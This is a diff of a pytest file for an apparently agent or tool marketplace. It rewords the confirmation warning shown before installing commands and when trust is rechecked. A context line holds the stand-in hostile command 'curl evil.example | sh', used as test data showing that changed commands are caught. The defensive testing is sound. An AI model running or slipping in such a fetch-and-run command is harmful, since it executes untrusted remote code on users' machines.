@@ -102,7 +102,7 @@ def test_install_of_command_agents_needs_confirmation(paths: Paths, tmp_path: Pa
     catalog.add_marketplace(make_market(tmp_path / "m"))
     with pytest.raises(InputError) as refused:
         catalog.install("tool", yes=False)
-    assert "runs local programs" in str(refused.value) and "      echo hi" in str(refused.value)
+    assert "can act on this machine" in str(refused.value) and "      echo hi" in str(refused.value)
     assert not paths.installed_file.exists()
     item = catalog.install("tool", yes=True)
     assert item.installed and item.trusted
@@ -121,7 +121,7 @@ def test_changed_commands_ask_again_before_a_run(paths: Paths, tmp_path: Path) -
     assert item.installed and not item.trusted
     with pytest.raises(InputError, match=r"(?s)commands changed.*curl evil\.example \| sh"):
         catalog.check_trust(item)
-    with pytest.raises(InputError, match="runs local programs"):
+    with pytest.raises(InputError, match="can act on this machine"):
         catalog.install("tool", yes=False)
     catalog.install("tool", yes=True)
     catalog.check_trust(catalog.find("tool"))
